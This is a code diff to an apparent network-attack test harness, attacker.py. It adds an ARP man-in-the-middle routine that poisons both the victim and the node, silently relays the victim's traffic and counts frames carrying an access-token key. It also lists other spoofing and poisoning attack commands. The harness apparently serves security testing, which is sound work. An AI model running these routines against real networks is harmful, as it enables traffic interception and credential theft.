@@ -7,6 +7,7 @@ one JSON line saying what came back.
     python3 attacker.py handshake --iface eth0 --gw-mac M --src S [--claim] --dst D --dport P --path /x
     python3 attacker.py arp-poison --iface eth0 --victim-ip V --target-ip T --target-mac M [--count N]
     python3 attacker.py arp-takeover --iface eth0 --gw-mac M --victim-ip V --agent A --port P --seconds S --path /x
+    python3 attacker.py arp-mitm --iface eth0 --gw-mac M --gateway-ip G --victim-ip V --victim-mac M2 --seconds S
     python3 attacker.py nd-poison --iface eth0 --victim-ip6 V --target-ip6 T --target-mac M [--count N]
     python3 attacker.py spoof-syn --iface eth0 --gw-mac M --src V --sport P --dst A --dport P --path /x
     python3 attacker.py mac-spoof --iface eth0 --gw-mac M --src S --dst D --dport P
@@ -102,6 +103,13 @@ def arp_poison(a) -> int:
     return _out(sent=len(errs), errors=[e for e in errs if e])
 
 
+def poison_node(sock, gw: bytes, victim_ip: str, gateway_ip: str) -> None:
+    """Tell the node (at the gateway's MAC) that the victim's address is ours: a request creates the node's entry
+    if it has none, a reply overrides one that exists."""
+    sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_ARP, fr.arp(1, sock.mac, victim_ip, b"\0" * 6, gateway_ip)))
+    sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_ARP, fr.arp(2, sock.mac, victim_ip, gw, gateway_ip)))
+
+
 def arp_takeover(a) -> int:
     """Issue 12's attack 1: keep poisoning the node's entry for the victim, watch for the agent's SYN-ACK to the
     victim's redirected connection, and finish that handshake as the victim with a request of our own."""
@@ -111,9 +119,7 @@ def arp_takeover(a) -> int:
     next_poison = 0.0
     while time.monotonic() < deadline:
         if time.monotonic() >= next_poison:
-            # A request creates the node's entry if it has none; a reply overrides one that exists.
-            sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_ARP, fr.arp(1, sock.mac, a.victim_ip, b"\0" * 6, a.gateway_ip)))
-            sock.send(fr.ethernet(gw, sock.mac, fr.ETH_P_ARP, fr.arp(2, sock.mac, a.victim_ip, gw, a.gateway_ip)))
+            poison_node(sock, gw, a.victim_ip, a.gateway_ip)
             next_poison = time.monotonic() + 0.05
         for f in sock.frames(min(deadline, time.monotonic() + 0.05)):
             if (f.ethertype == fr.ETH_P_IP and f.proto == 6 and f.src == a.agent and f.sport == a.port
@@ -122,6 +128,34 @@ def arp_takeover(a) -> int:
                 r = client.complete(f, HTTP.format(path=a.path).encode())
                 return _out(saw_syn_ack=True, **_http(r["response"]))
     return _out(saw_syn_ack=False, status=None, body="")
+
+
+def arp_mitm(a) -> int:
+    """Issue 12's attack 2: poison both ends (the node: the victim is at our MAC; the victim: the gateway is at
+    our MAC), pass every frame on so the victim notices nothing, and read what goes by. Reports whether any
+    frame carried `marker` (an access token's JSON key)."""
+    sock = fr.PacketSocket(a.iface)
+    gw, victim_mac = fr.mac(a.gw_mac), fr.mac(a.victim_mac)
+    marker = a.marker.encode()
+    seen = relayed = 0
+    deadline = time.monotonic() + a.seconds
+    next_poison = 0.0
+    while time.monotonic() < deadline:
+        if time.monotonic() >= next_poison:
+            poison_node(sock, gw, a.victim_ip, a.gateway_ip)
+            sock.send(fr.ethernet(victim_mac, sock.mac, fr.ETH_P_ARP,
+                                  fr.arp(2, sock.mac, a.gateway_ip, victim_mac, a.victim_ip)))
+            next_poison = time.monotonic() + 0.05
+        for f in sock.frames(min(deadline, time.monotonic() + 0.05)):
+            if f.dst_mac != sock.mac or f.ethertype != fr.ETH_P_IP:
+                continue
+            seen += marker in f.raw
+            # Pass it on to where it was going, so the victim keeps working.
+            to = victim_mac if f.dst == a.victim_ip else gw if f.src == a.victim_ip else None
+            if to is not None:
+                sock.send(to + sock.mac + f.raw[12:])
+                relayed += 1
+    return _out(frames_with_marker=seen, relayed=relayed)
 
 
 def nd_poison(a) -> int:
@@ -196,6 +230,8 @@ def main(argv=None) -> int:
     c.add_argument("--claim", action="store_true")
     cmd("arp-poison", arp_poison, "victim-ip", "target-ip", "target-mac", "count", "interval")
     cmd("arp-takeover", arp_takeover, "gw-mac", "gateway-ip", "victim-ip", "agent", "port", "seconds", "path")
+    c = cmd("arp-mitm", arp_mitm, "gw-mac", "gateway-ip", "victim-ip", "victim-mac", "seconds")
+    c.add_argument("--marker", default="access_token")
     cmd("nd-poison", nd_poison, "victim-ip6", "own-ip6", "target-ip6", "target-mac", "count", "interval")
     cmd("spoof-syn", spoof_syn, "gw-mac", "src", "sport", "dst", "dport", "path", "timeout")
     cmd("mac-spoof", mac_spoof, "gw-mac", "src", "sport", "dst", "dport", "timeout")
